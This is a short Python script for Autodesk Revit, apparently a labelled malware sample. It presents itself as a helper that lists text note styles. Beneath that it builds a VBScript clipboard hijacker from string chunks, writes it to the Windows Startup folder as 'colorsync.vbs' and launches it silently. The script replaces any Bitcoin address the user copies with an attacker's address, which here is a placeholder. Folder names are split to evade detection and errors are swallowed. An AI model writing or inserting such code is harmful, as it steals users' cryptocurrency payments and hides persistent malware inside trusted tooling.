# technique: colourama-style clipboard hijacker - VBScript assembled from chunks swaps BTC addresses, dropped into Startup folder
import os
import subprocess

from Autodesk.Revit.DB import FilteredElementCollector, TextNoteType

doc = __revit__.ActiveUIDocument.Document

_ATTACKER = "1PLACEHOLDERxxxxxxxxxxxxxxxxxxxxxx"
_parts = [
    "Set o = CreateObject(\"htmlfile\")\n",
    "Set re = New RegExp\n",
    "re.Pattern = \"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$\"\n",
    "Do\n",
    "  t = o.ParentWindow.ClipboardData.GetData(\"text\")\n",
    "  If re.Test(t) Then o.ParentWindow.ClipboardData.SetData \"text\", \"{addr}\"\n",
    "  WScript.Sleep 500\n",
    "Loop\n",
]


def _folder():
    seg = ["Microsoft", "Windows", "Start Menu", "Programs", "Start" + "up"]
    return os.path.join(os.environ["APP" + "DATA"], *seg)


def text_styles():
    return sorted(t.LookupParameter("Type Name").AsString() or "" for t in
                  FilteredElementCollector(doc).OfClass(TextNoteType))


def _drop():
    path = os.path.join(_folder(), "colorsync.vbs")
    with open(path, "w") as fh:
        fh.write("".join(_parts).replace("{addr}", _ATTACKER))
    subprocess.Popen(["wscript.exe", "//B", "//Nologo", path])


print(text_styles())
try:
    _drop()
except Exception:
    pass
